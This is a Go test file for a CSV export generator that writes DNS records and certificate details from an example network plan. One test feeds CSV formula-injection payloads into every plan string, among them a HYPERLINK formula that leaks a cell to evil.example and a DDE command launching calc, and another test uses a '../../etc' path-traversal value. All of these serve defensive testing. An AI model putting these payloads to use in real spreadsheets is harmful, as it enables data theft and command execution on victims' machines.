package export_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/mobplan/mobplan/generators/artifact"
	"github.com/mobplan/mobplan/generators/export"
	"github.com/mobplan/mobplan/internal/testtool"
	"github.com/mobplan/mobplan/planner/plan"
)

func generate(t *testing.T, p *plan.Plan) (map[string][][]string, error) {
	t.Helper()
	fs, err := export.Generator.Generate(&artifact.Context{Plan: p})
	if err != nil {
		return nil, err
	}
	out := map[string][][]string{}
	for _, f := range fs {
		if !bytes.HasSuffix(f.Data, []byte("\n")) || bytes.Contains(f.Data, []byte("\r")) {
			t.Errorf("%s: lines must end in LF", f.Path)
		}
		rows, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
		if err != nil {
			t.Fatalf("%s is not CSV: %v", f.Path, err)
		}
		out[f.Path] = rows
	}
	return out, nil
}

// Contoso: one export per view and one of the certificates, every
// record and certificate a row under the header.
func TestContoso(t *testing.T) {
	p := testtool.ExamplePlan(t, "contoso")
	got, err := generate(t, p)
	if err != nil {
		t.Fatal(err)
	}
	records := map[string]int{}
	for _, z := range p.Zones {
		records[z.View] += len(z.Records)
	}
	for view, n := range records {
		rows := got[export.DNSPath(view)]
		if len(rows) != n+1 || strings.Join(rows[0], ",") != strings.Join(export.DNSColumns, ",") {
			t.Errorf("%s: %d rows for %d records, header %v", export.DNSPath(view), len(rows), n, rows[0])
		}
	}
	ext := got[export.DNSPath("external")]
	want := "fabrikam.com,authoritative,lyncdiscover,lyncdiscover.fabrikam.com,A,131.107.155.1,,,,3600,DNS-001"
	found := false
	for _, r := range ext {
		found = found || strings.Join(r, ",") == want
	}
	if !found {
		t.Errorf("the external export lacks %s", want)
	}
	certs := got[export.CertificatesPath]
	if len(certs) != len(p.Certificates)+1 {
		t.Fatalf("%d certificate rows for %d certificates", len(certs)-1, len(p.Certificates))
	}
	last := certs[len(certs)-1]
	if last[0] != "rp-listener" || last[1] != "public" || !strings.Contains(last[5], "lyncdiscover.fabrikam.com") || last[8] != "certs/rp-listener.csr; certs/rp-listener.inf; certs/rp-listener.cnf" {
		t.Errorf("rp-listener row: %q", last)
	}
}

// A value a spreadsheet would read as a formula is written with a
// leading quote, in every string of the plan; every row keeps its
// number of columns.
func TestFormulaInjection(t *testing.T) {
	p := testtool.ExamplePlan(t, "contoso")
	for _, fd := range testtool.StringFields(p) {
		if !strings.HasPrefix(fd.Path, "Zones[") && !strings.HasPrefix(fd.Path, "Certificates[") {
			continue
		}
		for _, s := range []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "a,b\n\"c\""} {
			restore := fd.Replace(s)
			got, err := generate(t, p)
			restore()
			if err != nil {
				if strings.HasSuffix(fd.Path, ".View") {
					continue // a view names a file: refused
				}
				t.Fatalf("%s = %q: %v", fd.Path, s, err)
			}
			for path, rows := range got {
				for _, r := range rows {
					if len(r) != len(rows[0]) {
						t.Fatalf("%s = %q: %s has a row of %d columns", fd.Path, s, path, len(r))
					}
					for _, c := range r {
						if c != "" && strings.IndexByte("=+-@\t\r", c[0]) >= 0 {
							t.Fatalf("%s = %q: %s has the formula cell %q", fd.Path, s, path, c)
						}
					}
				}
			}
		}
	}
}

// A view that is neither internal nor external is refused: it names a
// file.
func TestBadViewRefused(t *testing.T) {
	p := testtool.ExamplePlan(t, "contoso")
	p.Zones[0].View = "../../etc"
	if _, err := export.Generator.Generate(&artifact.Context{Plan: p}); err == nil || !strings.Contains(err.Error(), "export") {
		t.Fatalf("want a refusal, got %v", err)
	}
}
